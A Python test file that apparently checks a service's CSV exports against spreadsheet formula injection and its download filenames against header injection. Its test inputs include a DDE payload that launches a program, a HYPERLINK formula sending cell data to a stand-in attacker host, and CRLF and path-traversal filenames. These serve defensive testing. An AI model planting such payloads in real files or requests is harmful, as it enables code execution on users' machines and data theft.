"""No csv that leaves the house computes anything when it is opened."""

import ast
import csv
import io
from pathlib import Path

import pytest

from services.gateway import files
from tests.attack import source

ROOT = Path(__file__).parents[2]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "+84 912=1",
    "-",
    "=",
]
HARMLESS = ["+84912345678", "-12.5", "12", "Nguyễn Thị = Đào", "a@b.vn", ""]


def opened(*cells: str) -> list[str]:
    """The cells as a spreadsheet reads them back."""
    answer = files.table([cells], ["a"] * len(cells), "x.csv")
    text = answer.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))[1]


class TestEveryCell:
    @pytest.mark.parametrize("formula", FORMULAS)
    def test_a_formula_is_text(self, formula: str) -> None:
        (cell,) = opened(formula)

        assert cell == f"'{formula}"

    @pytest.mark.parametrize("text", HARMLESS)
    def test_anything_else_stays_as_it_is(self, text: str) -> None:
        assert opened(text, "x") == [text, "x"]

    def test_a_cell_ends_where_it_ends(self) -> None:
        cells = ['a",=1+1', "a\r\n=1+1", "a;=1+1", "a,=1+1"]

        assert opened(*cells) == cells


class TestEveryFile:
    def test_one_place_writes_them(self) -> None:
        writing = [
            str(path.relative_to(ROOT))
            for path in source.modules("services", "csv")
            for node in ast.walk(ast.parse(path.read_text("utf-8")))
            if (isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"))
            or (isinstance(node, ast.Constant) and node.value == "text/csv")
        ]

        # The others name the kind: in the description of the API, and of what staff attach.
        assert set(writing) <= {
            "services/gateway/files.py",
            "services/gateway/api/described.py",
            "services/campaigns/domain/attachments.py",
        }

    @pytest.mark.parametrize(
        "name", ['a".csv', "a\r\nSet-Cookie: b=c", "ả.csv", "../../a", "a;b", "\\"]
    )
    def test_no_name_ends_its_header(self, name: str) -> None:
        said = files.table([], ["a"], name).headers["Content-Disposition"]

        assert said.isascii()
        assert said.isprintable()
        plain = said.split("; filename*=")[0]
        assert plain.count('"') == 2
        assert "/" not in plain
        assert "\\" not in plain
